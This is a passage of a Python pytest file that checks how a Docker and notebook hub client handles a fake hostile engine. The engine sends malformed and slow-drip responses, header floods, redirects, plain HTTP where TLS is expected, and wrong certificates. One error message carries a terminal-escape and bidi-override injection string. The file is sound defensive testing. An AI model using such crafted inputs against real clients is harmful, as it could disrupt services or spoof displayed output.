        (lambda c: c.send(CHUNKED + b"zz\r\n"), "endpoint-hung-up"),
        (lambda c: c.send(CHUNKED + chunk(b'{"status":"x"}\n')), "endpoint-hung-up"),
        (lambda c: c.send(http(gzip.compress(b"{}"), headers=[("Content-Encoding", "gzip")])), "not-a-docker-engine"),
        (lambda c: c.send(http(status=307, headers=[("Location", "/x")])), "endpoint-redirected"),
    ],
    ids=["no-newline", "not-json", "deep", "list", "bad-chunk", "cut", "gzip", "redirect"],
)
def test_a_pulls_stream_that_no_engine_sends_has_its_code(pki: Pki, stream: Answer, code: str) -> None:
    assert code_with(pki, {PULL: stream}, pulling) == code


WORDS = [
    ("pull access denied for x, repository does not exist or may require 'docker login': denied", "image-not-found"),
    ("manifest for jupyter/x:y not found: manifest unknown: manifest unknown", "image-not-found"),
    ("write /var/lib/docker/tmp/GetImageBlob1: no space left on device", "no-space"),
    ("unauthorized: authentication required", "registry-denied"),
    ("toomanyrequests: You have reached your pull rate limit", "registry-limit"),
    ("no matching manifest for linux/arm64/v8 in the manifest list entries", "image-wrong-platform"),
    ("Get https://r.example/v2/: dial tcp: lookup r.example: no such host", "registry-unreachable"),
    ("invalid reference format", "bad-image"),
    ("unexpected EOF", "registry-unreachable"),
    ("\x1b[31m\u202e evil", "pull-failed"),
]


@pytest.mark.parametrize(("text", "code"), WORDS)
def test_what_the_registry_says_has_its_code_in_the_stream_and_before_it(pki: Pki, text: str, code: str) -> None:
    entry = {"errorDetail": {"message": text}, "error": text}
    assert code_with(pki, {PULL: pull_of(*STARTED, entry)}, pulling) == code
    assert code_with(pki, {PULL: refusal(404 if "image" in code else 500, text)}, pulling) == code


# ── the notebook ─────────────────────────────────────────────────────────────────────────────────────────────────

SID = a_session().sid
LIFETIME = 86400.0 * 365


@pytest.fixture(scope="module")
def trust() -> HubTrust:
    def ca(name: str) -> certificates.Ca:
        return certificates.new_ca(name, now=NOW - 10 * LIFETIME, lifetime=20 * LIFETIME)

    clients = ca("clients")
    launcher = certificates.issue_client(clients, "launcher", now=NOW - 10 * LIFETIME, lifetime=20 * LIFETIME)
    return HubTrust(ca("notebooks"), clients.certificate, launcher)


def a_notebook(trust: HubTrust, answer: Answer, sid: str = SID) -> HostileEngine:
    leaf = certificates.issue_notebook(trust.notebook_ca, sid, now=NOW - 10 * LIFETIME, lifetime=20 * LIFETIME)

    def mutual(context: ssl.SSLContext) -> None:
        load_leaf(context, Leaf(leaf.certificate, leaf.key))

    return HostileEngine(Pki.new(), {"GET /api/status": answer}, client_ca=trust.client_ca, tls=mutual)


def probe_code(notebook: HostileEngine, trust: HubTrust, deadline: float = 10.0) -> str:
    with notebook, pytest.raises(EndpointError) as caught:
        probe(Target(LOOPBACK, notebook.port), SID, trust, deadline=deadline)
    return caught.value.code


def test_a_notebook_that_answers_with_its_certificate_is_ready(trust: HubTrust) -> None:
    with a_notebook(trust, of_json({})) as notebook:
        probe(Target(LOOPBACK, notebook.port), SID, trust, deadline=10)
        assert notebook.heard[0].headers["host"].startswith(f"{SID}.notebook.internal")


def test_another_sessions_notebook_is_not_taken_for_this_one(trust: HubTrust) -> None:
    assert probe_code(a_notebook(trust, of_json({}), "0" * 20), trust) == "notebook-wrong-certificate"
    assert probe_code(HostileEngine(Pki.new()), trust) == "notebook-wrong-certificate"


@pytest.mark.parametrize(
    "answer",
    [
        NOT_FOUND,
        http(status=302, headers=[("Location", "/login")]),
        http(status=503),
        b"junk\r\n\r\n",
        lambda c: None,
        lambda c: c.drip(b"HTTP/1.1 200 OK\r\nA: " + b"a" * 1000),
        lambda c: (c.send(HEAD), c.flood(b"X: y\r\n" * 1000)),
    ],
    ids=["404", "302", "503", "junk", "closes", "drips", "floods"],
)
def test_a_notebook_that_does_not_answer_200_is_silent(trust: HubTrust, answer: Answer) -> None:
    assert probe_code(a_notebook(trust, answer), trust, deadline=1.0) == "notebook-silent"


def test_a_port_that_refuses_connections_says_what_to_open_if_that_goes_on(trust: HubTrust) -> None:
    with socket.create_server((LOOPBACK, 0)) as closed:
        target = Target(LOOPBACK, closed.getsockname()[1])
    with pytest.raises(NotebookUnreachable, match=f"port {target.port} of {LOOPBACK} refuses .* If this goes on, open"):
        probe(target, SID, trust, deadline=5)


def test_a_port_that_swallows_connections_says_what_to_open(trust: HubTrust) -> None:
    """As a firewall does: the system drops what comes while nobody takes what waits already."""
    with socket.create_server((LOOPBACK, 0), backlog=0) as full, ExitStack() as waiting:
        target = Target(*full.getsockname())
        clients = [waiting.enter_context(socket.socket()) for _ in range(2)]
        for client in clients:
            client.setblocking(False)
            client.connect_ex((target.address, target.port))
        with pytest.raises(
            NotebookUnreachable, match=f"port {target.port} of {LOOPBACK} cannot be reached .* Open the"
        ):
            probe(target, SID, trust, deadline=0.3)


def test_an_address_without_a_route_says_what_to_open(trust: HubTrust) -> None:
    with pytest.raises(NotebookUnreachable):
        probe(Target("255.255.255.255", 32768), SID, trust, deadline=5)


def test_a_port_that_is_open_and_says_nothing_yet_is_silent(trust: HubTrust) -> None:
    """As the engine's own proxy is while nothing listens behind it, and a server that is busy starting."""
    released = threading.Event()

    def hold(_: socket.socket) -> None:
        released.wait()

    assert probe_code(HostileEngine(Pki.new(), greet=lambda peer: None), trust) == "notebook-silent"
    with HostileEngine(Pki.new(), greet=hold) as busy:
        with pytest.raises(EndpointError) as caught:
            probe(Target(LOOPBACK, busy.port), SID, trust, deadline=0.3)
        released.set()
    assert caught.value.code == "notebook-silent"


@pytest.mark.parametrize(
    "words", [b"HTTP/1.0 400 Bad Request\r\n\r\n", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"]
)
def test_a_port_that_speaks_http_without_tls_is_not_the_notebooks(trust: HubTrust, words: bytes) -> None:
    def after_hello(peer: socket.socket) -> None:
        peer.recv(65536)
        peer.sendall(words)

    assert probe_code(HostileEngine(Pki.new(), greet=after_hello), trust) == "notebook-not-tls"


# ── an image is written ──────────────────────────────────────────────────────────────────────────────────────────────


def a_savable(**changes: Any) -> dict[str, Any]:
    labels = {"homeport.hub": "hub", "homeport.session": "abc", "homeport.generation": "1", "homeport.savable": "1"}
    return {"Id": CONTAINER_ID, "Image": f"sha256:{'cd' * 32}", "Config": {"Labels": labels | changes}}


def saving(commit: Answer, image: Answer = NOT_FOUND) -> dict[str, Answer]:
    return {
        f"GET /containers/{NAME}/json": of_json(a_savable()),
        f"GET /images/sha256:{'cd' * 32}/json": image,
        "POST /commit": commit,
    }


def commit(endpoint: DockerEndpoint) -> Generator[None, None, None]:
    return endpoint.commit(NAME, "localhost/a:1", {"homeport.saved-by": "ab"})


def test_a_commit_names_the_image_and_what_it_is_to_be(pki: Pki) -> None:
    image = of_json({"Config": {"Cmd": ["jupyter", "lab"], "WorkingDir": "/home/jovyan", "Env": ["A=1"]}})
    with HostileEngine(pki, saving(of_json({"Id": "x"}, status=201), image)) as engine, an_endpoint(engine) as endpoint:
        assert list(commit(endpoint)) == []
        (sent,) = (request for request in engine.heard if request.method == "POST")
    asked = parse_qs(sent.path.partition("?")[2])
    assert (asked["container"], asked["repo"], asked["tag"]) == ([NAME], ["localhost/a"], ["1"])
    assert asked["pause"] == ["True"]
    assert {'LABEL homeport.session=""', 'LABEL homeport.saved-by="ab"', 'CMD ["jupyter", "lab"]'} <= set(
        asked["changes"]
    )


def test_whoever_waits_for_a_commit_is_told_that_time_passes_and_hangs_up_when_it_lets_go(pki: Pki) -> None:
    gone = threading.Event()

    def silent(connection: Connection) -> None:
        try:
            connection.wait()
        finally:
            gone.set()

    with HostileEngine(pki, saving(silent)) as engine, an_endpoint(engine) as endpoint:
        waiting = commit(endpoint)
        next(waiting)
        assert not gone.is_set()
        waiting.close()
        assert gone.wait(20)


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        (lambda connection: connection.wait(), "endpoint-timeout"),
        (lambda connection: connection.drip(b"HTTP/1.1 201 Created\r\nX: y\r\n"), "endpoint-timeout"),
        (lambda connection: connection.flood(CHUNKED + chunk(b" " * 65536)), "not-a-docker-engine"),
        (b"gibberish\r\n\r\n", "not-a-docker-engine"),
        (refusal(500, "write /var/lib/docker: no space left on device"), "no-space"),
        (refusal(409, "Container is being removed"), "request-rejected"),
        (refusal(404, "No such container"), "container-missing"),
        (http(status=307, headers=[("Location", "https://elsewhere.example.org/")]), "endpoint-redirected"),
    ],
)
def test_a_commit_that_goes_wrong_has_its_code(pki: Pki, answer: Answer, code: str) -> None:
    deadline = 1.0 if code == "endpoint-timeout" else 20.0
    assert code_with(pki, saving(answer), lambda endpoint: list(commit(endpoint)), deadline=deadline) == code


@pytest.mark.parametrize(
    ("found", "code"),
    [
        (a_savable(**{"homeport.savable": ""}), "container-not-savable"),
        (a_savable(**{"homeport.savable": None}), "container-not-savable"),
        (a_savable(**{"homeport.hub": "another"}), "container-conflict"),
        ({"Config": {"Labels": 7}}, "container-conflict"),
        ({}, "container-conflict"),
        ([], "not-a-docker-engine"),
    ],
)
def test_what_is_not_the_launchs_own_container_is_not_committed(pki: Pki, found: object, code: str) -> None:
    answers = saving(of_json({"Id": "x"}, status=201)) | {f"GET /containers/{NAME}/json": of_json(found)}
    with HostileEngine(pki, answers) as engine:
        assert code_of(an_endpoint(engine), lambda endpoint: list(commit(endpoint))) == code
        assert not [request for request in engine.heard if request.method == "POST"]


# ── images of repositories are removed ───────────────────────────────────────────────────────────────────────────────


def built_as(number: int) -> str:
    return f"localhost/homeport-built:{number:040x}"


def a_built_image(name: str, **labels: str) -> dict[str, Any]:
    """What an engine says of it, in a list and by itself."""
    said = {"homeport.hub": "hub", "homeport.built": name, **labels}
    return {"RepoTags": [name], "Labels": said, "Config": {"Labels": said}, "Size": 7}


def removing(answer: Answer, **labels: str) -> dict[str, Answer]:
    found = of_json(a_built_image(built_as(1), **labels))
    return {f"GET /images/{built_as(1)}/json": found, f"DELETE /images/{built_as(1)}": answer}


def test_of_the_images_that_are_listed_those_of_this_hub_are_told_and_no_more_than_a_hundred(pki: Pki) -> None:
    ours = [a_built_image(built_as(number)) for number in range(120)]
    others: list[object] = [
        a_built_image(built_as(0), **{"homeport.hub": "another"}),
        {},
        [],
        None,
        {"Labels": 7, "RepoTags": 7},
    ]
    answers: dict[str, Answer] = {"GET /images/json": of_json([*others, *ours])}
    with HostileEngine(pki, answers) as engine, an_endpoint(engine) as endpoint:
        assert endpoint.built_images() == [built_as(number) for number in range(100)]
        (sent,) = (request for request in engine.heard if "/images/json" in request.path)
    (filters,) = parse_qs(sent.path.partition("?")[2])["filters"]
    assert json.loads(filters) == {"label": ["homeport.hub=hub"]}


@pytest.mark.parametrize("listed", [of_json({}), of_json("x"), http(b"[" * 9999), of_json(["x" * ANSWER_BYTES])])
def test_a_list_of_images_that_is_none_or_too_long_is_no_engines(pki: Pki, listed: bytes) -> None:
    assert code_with(pki, {"GET /images/json": listed}, DockerEndpoint.built_images) == "not-a-docker-engine"


def test_an_image_is_removed_without_force(pki: Pki) -> None:
    with HostileEngine(pki, removing(of_json([{"Untagged": built_as(1)}]))) as engine, an_endpoint(engine) as endpoint:
        assert endpoint.remove_built(built_as(1))
        (sent,) = (request for request in engine.heard if request.method == "DELETE")
    assert parse_qs(sent.path.partition("?")[2])["force"] == ["False"]


def test_an_image_that_is_gone_meanwhile_is_no_failure(pki: Pki) -> None:
    with HostileEngine(pki, removing(refusal(404, "No such image"))) as engine, an_endpoint(engine) as endpoint:
        assert not endpoint.remove_built(built_as(1))


@pytest.mark.parametrize("labels", [{"homeport.hub": "another"}, {"homeport.built": built_as(2)}])
def test_an_image_that_is_not_this_hubs_is_not_removed(pki: Pki, labels: dict[str, str]) -> None:
    with HostileEngine(pki, removing(of_json([]), **labels)) as engine, an_endpoint(engine) as endpoint:
        assert not endpoint.remove_built(built_as(1))
        assert not [request for request in engine.heard if request.method == "DELETE"]


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        (refusal(409, "conflict: unable to remove repository reference (must force)"), "image-in-use"),
        (refusal(500, "image used by 0123: image is in use by a container"), "image-in-use"),
        (refusal(500, "it broke"), "endpoint-failed"),
        (refusal(403, "denied"), "endpoint-forbidden"),
        (lambda connection: connection.wait(), "endpoint-timeout"),
        (http(status=307, headers=[("Location", "https://elsewhere.example.org/")]), "endpoint-redirected"),
    ],
)
def test_a_removal_that_goes_wrong_has_its_code(pki: Pki, answer: Answer, code: str) -> None:
    deadline = 1.0 if code == "endpoint-timeout" else 20.0
    call: Call = lambda endpoint: endpoint.remove_built(built_as(1))  # noqa: E731
    assert code_with(pki, removing(answer), call, deadline=deadline) == code
